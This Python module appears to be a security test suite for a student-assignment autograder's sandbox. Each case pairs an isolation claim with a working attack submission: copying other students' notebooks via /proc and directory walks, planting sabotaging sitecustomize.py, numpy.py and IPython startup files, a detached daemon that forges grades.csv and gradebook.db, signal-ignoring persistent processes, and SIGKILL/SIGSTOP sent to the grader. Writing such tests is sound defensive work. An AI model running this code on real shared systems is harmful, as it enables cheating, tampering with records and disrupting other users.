"""Other students, the grader's processes and its outputs (issue 9, fourth and fifth bullets).

The victims are honest students named ``victim_*`` (graded after the ``atk_*`` students when
the grader goes alphabetically; the daemons below keep trying for minutes in any case).
"""

from . import attack
from .snippets import GUARD, PACK, PROCS

PS02 = "ps02_conv_arithmetic"
ISOLATED = ("each submission runs in its own sandbox with no view of other submissions, other "
            "sandboxes, the course, --out or the grader's processes")

# Find the other students' notebooks and copy their answers.
SNOOP = GUARD + PROCS + PACK + r'''
import glob, json, os

_nbs = []
for up in range(1, 7):
    _nbs += glob.glob("../" * up + "*/*/*.ipynb") + glob.glob("../" * up + "*/*.ipynb") + glob.glob("../" * up + "*.ipynb")
for pid, cmd, env in _run_processes():
    _nbs += glob.glob(f"/proc/{pid}/cwd/*.ipynb") + glob.glob(f"/proc/{pid}/cwd/*/*/*.ipynb")
    for arg in cmd.split():                    # the submissions folder is on the grader's command line
        if os.path.isdir(arg):
            _nbs += glob.glob(arg + "/*/*/*.ipynb")
_nbs += glob.glob("@SUBS@/*/*/*.ipynb")
_nbs = [p for p in dict.fromkeys(_nbs) if "ps02" in p and "atk_" not in p]
print("notebooks of other students in view:", len(_nbs))


def _code(path):
    nb = json.load(open(path))
    out = []
    for c in nb.get("cells", []):
        src = c.get("source", "")
        out.append("".join(src) if isinstance(src, list) else src)
    return out


donor = None
for p in _nbs:
    try:
        cells = _code(p)
    except Exception:
        continue
    if any("def conv2d" in c and "NotImplementedError" not in c for c in cells):
        donor = (p, cells)
        break
if donor:
    print("DONOR", donor[0])
    print("DONOR-CODE", _z64("\n".join(donor[1])))
    for c in donor[1]:                         # run the victim's answers as our own
        if "checker" in c or "HIDDEN" in c or c.lstrip().startswith(("!", "%")):
            continue
        try:
            exec(c, globals())
        except Exception:
            pass
'''

# Break every other submission that can be reached, now and for the next minutes.
SABOTAGE = GUARD + PROCS + r'''
import glob, json, os, signal, time

EVIL = "raise SystemExit('sabotaged by atk_sabotage')\n"


def _dirs():
    ds = set()
    for up in range(1, 6):
        ds.update(glob.glob("../" * up + "*"))
        ds.update(glob.glob("../" * up + "*/*"))
    for pid, cmd, env in _run_processes():
        ds.add(f"/proc/{pid}/cwd")
        for kv in env.split("\0"):
            if kv.startswith(("HOME=", "IPYTHONDIR=", "TMPDIR=", "JUPYTER_", "PWD=", "MPLCONFIGDIR=")):
                ds.add(kv.split("=", 1)[1])
        for arg in cmd.split():
            if os.path.isdir(arg):
                ds.update(glob.glob(arg + "/*") + glob.glob(arg + "/*/*"))
    ds.update(glob.glob("@SUBS@/*/*"))
    here = os.path.realpath(os.getcwd())
    return [d for d in ds if os.path.isdir(d) and _ours(d) and os.path.realpath(d) != here
            and "atk_sabotage" not in os.path.realpath(d)]


def _plant(d):
    hits = 0
    for name, text in (("numpy.py", "raise ImportError('numpy sabotaged')\n"), ("sitecustomize.py", EVIL),
                       ("usercustomize.py", EVIL), ("convblocks.py", EVIL)):
        try:
            with open(os.path.join(d, name), "w") as fh:
                fh.write(text)
            hits += 1
        except OSError:
            pass
    for startup in (".ipython/profile_default/startup", "profile_default/startup", ".config/ipython/profile_default/startup"):
        try:
            os.makedirs(os.path.join(d, startup), exist_ok=True)
            with open(os.path.join(d, startup, "00-atk.py"), "w") as fh:
                fh.write(EVIL)
            hits += 1
        except OSError:
            pass
    for p in (glob.glob(os.path.join(d, "**", "checks.py"), recursive=True)[:20]
              + glob.glob(os.path.join(d, "**", "convblocks", "*.py"), recursive=True)[:50]):
        if _ours(p):
            try:
                with open(p, "a") as fh:
                    fh.write("\n" + EVIL)
                hits += 1
            except OSError:
                pass
    for p in glob.glob(os.path.join(d, "*.ipynb")) + glob.glob(os.path.join(d, "*", "*.ipynb")):
        if _ours(p) and "atk_" not in p:
            try:
                nb = json.load(open(p))
                for c in nb.get("cells", []):
                    if c.get("cell_type") == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution"):
                        c["source"] = "raise NotImplementedError('sabotaged')"
                with open(p, "w") as fh:
                    json.dump(nb, fh)
                hits += 1
            except Exception:
                pass
    return hits


print("planted", sum(_plant(d) for d in _dirs()), "files now")
_pid = os.fork()
if _pid == 0:                          # and keep at it for a few minutes, from a detached process
    os.setsid()
    if os.fork() == 0:
        _name_me()
        start = time.time()
        while time.time() - start < 240:
            for d in _dirs():
                _plant(d)
            time.sleep(1)
    os._exit(0)
os.waitpid(_pid, 0)
'''

# fork + setsid daemon that outlives the kernel and rewrites --out after the run.
DAEMON = GUARD + PROCS + r'''
import glob, os, signal, sqlite3, time


def _rewrite(out, n):
    try:
        with open(os.path.join(out, "grades.csv")) as fh:
            lines = fh.read().splitlines()
        lines = [ln.replace(",0,", ",99,") if ln.startswith("atk_") else ln for ln in lines]
        lines.append(f"atk_daemon_forged,ps02_conv_arithmetic,999,19,graded,999,19,0,0,forged {n}")
        with open(os.path.join(out, "grades.csv"), "w") as fh:
            fh.write("\n".join(lines) + "\n")
    except OSError:
        pass
    try:
        con = sqlite3.connect(os.path.join(out, "gradebook.db"), timeout=1)
        con.execute("UPDATE grade SET auto_score = 1000")
        con.execute("CREATE TABLE IF NOT EXISTS forged (n INTEGER)")
        con.execute("INSERT INTO forged VALUES (?)", (n,))
        con.commit()
        con.close()
    except Exception:
        pass


def _daemon():
    _name_me()
    for s in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(s, signal.SIG_IGN)
    outs, start, gone, n = set(), time.time(), None, 0
    while time.time() - start < 400:
        outs.update(_grader_out_dirs())
        for up in range(1, 7):
            outs.update(os.path.dirname(os.path.abspath(p)) for p in glob.glob("../" * up + "*/grades.csv"))
        outs.update(os.path.dirname(p) for p in glob.glob("@OUT@/grades.csv"))
        if _run_processes("--out"):
            gone = None
        else:
            gone = gone or time.time()
            if time.time() - gone > 90:
                break
        for out in outs:
            if _ours(out):
                n += 1
                _rewrite(out, n)
        time.sleep(1)


_pid = os.fork()
if _pid == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            fd = os.open(os.devnull, os.O_RDWR)
            for i in (0, 1, 2):
                os.dup2(fd, i)
            _daemon()
        finally:
            os._exit(0)
    os._exit(0)
os.waitpid(_pid, 0)
print("daemon started")
'''

# Processes that try every way to outlive the kernel and the grader.
SURVIVORS = PROCS + r'''
import atexit, os, signal, subprocess, sys, threading, time

LIVE = """
import os, sys, time
marker = sys.argv[1]
start, gone = time.time(), None
def graders():
    n = 0
    for d in os.listdir('/proc'):
        if d.isdigit():
            try:
                c = open(f'/proc/{d}/cmdline', 'rb').read()
            except OSError:
                continue
            n += marker.encode() in c and b'--out' in c
    return n
while time.time() - start < 400:
    if graders():
        gone = None
    else:
        gone = gone or time.time()
        if time.time() - gone > 90:
            break
    time.sleep(1)
"""
STUBBORN = "import signal\nfor s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n    signal.signal(s, signal.SIG_IGN)\n" + LIVE
env = dict(os.environ, ATK_MARKER=MARKER)
quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=env)
subprocess.Popen([sys.executable, "-c", LIVE, MARKER], start_new_session=True, **quiet)
subprocess.Popen([sys.executable, "-c", STUBBORN, MARKER], **quiet)
subprocess.Popen([sys.executable, "-c", STUBBORN, MARKER], start_new_session=True, **quiet)
atexit.register(lambda: subprocess.Popen([sys.executable, "-c", STUBBORN, MARKER], start_new_session=True, **quiet))
_name_me()                                         # the kernel itself: ignore polite shutdowns, never exit
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGQUIT, signal.SIGUSR1):
    signal.signal(s, signal.SIG_IGN)
threading.Thread(target=time.sleep, args=(400,), daemon=False).start()   # blocks a clean interpreter exit
print("survivors started")
'''


def _signals(sigs):
    return PROCS + r'''
import os, signal, time


def _parent_of(pid):
    try:
        return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except Exception:
        return 0


run = {pid for pid, cmd, env in _run_processes()}
small_namespace = os.getpid() < 50                 # a fresh PID namespace: everything in view is ours
ppid = os.getppid()
targets = {ppid, _parent_of(ppid)} | run
hit = []
for sig in (''' + sigs + r'''):
    for pid in sorted(targets - {0, os.getpid()}):
        if pid in run or small_namespace:
            try:
                os.kill(pid, sig)
                hit.append((pid, int(sig)))
            except OSError:
                pass
    time.sleep(0.2)
print("signals sent:", hit)
'''


ATTACKS = [
    attack("atk_snoop_copy", PS02, ISOLATED,
           "glob ../../* (up to 6 levels), /proc/<pid>/cwd of the run's processes and the submissions "
           "folder named on the grader's command line; take the first ps02 notebook with a real conv2d, "
           "print it (base64) and exec every answer cell of it as its own", "every item 0, nothing "
           "of the victim's solution in the attacker's outputs", answers=SNOOP),
    attack("atk_sabotage", PS02, ISOLATED + "; a submission cannot change another one's grade",
           "plant numpy.py/sitecustomize.py/IPython startup files in every reachable folder, append "
           "failing code to every checks.py and convblocks copy, stub out other students' notebooks "
           "(their working copies and their submitted files), and keep doing it for 4 minutes from a "
           "detached process", "every item 0; every victim full marks; submitted files unchanged; no "
           "survivor", insert=[("ps02_setup", SABOTAGE)]),
    attack("atk_daemon_grades", PS02,
           "no process of a submission outlives the sandbox (PID namespace); grades.csv and "
           "gradebook.db are written by the grader alone",
           "fork + setsid + fork daemon ignoring SIGHUP/SIGTERM finds --out in /proc/<grader>/cmdline "
           "(and by ../ walks), then keeps rewriting grades.csv and gradebook.db until 90 s after "
           "the grader is gone", "every item 0; no process alive 10 s after the grader; both files "
           "byte-identical 60 s later", insert=[("ps02_setup", DAEMON)]),
    attack("atk_survivors", PS02, "no process of a submission outlives the sandbox",
           "Popen with start_new_session, children ignoring SIGTERM/SIGHUP/SIGINT, an atexit hook that "
           "spawns another, a non-daemon thread, and the kernel itself ignoring polite signals",
           "every item 0; nothing alive 10 s after the grader", insert=[("ps02_setup", SURVIVORS)]),
    attack("atk_signal_parent", PS02,
           "the grader's processes are out of reach: signals from a kernel hurt nobody else",
           "send SIGINT, SIGTERM, SIGHUP, SIGUSR1, SIGPIPE, SIGALRM, then SIGKILL to the parent, the "
           "grandparent and every process of the run in view", "every item 0; the run completes; "
           "every other student graded as usual",
           insert=[("ps02_setup", _signals("signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, "
                                           "signal.SIGPIPE, signal.SIGALRM, signal.SIGKILL"))]),
    attack("atk_stop_parent", PS02,
           "the grader's processes are out of reach: a kernel cannot freeze the run",
           "SIGSTOP to the parent, the grandparent and every process of the run in view (the grader "
           "would hang forever)", "every item 0; the run completes",
           insert=[("ps02_setup", _signals("signal.SIGSTOP,"))]),
]
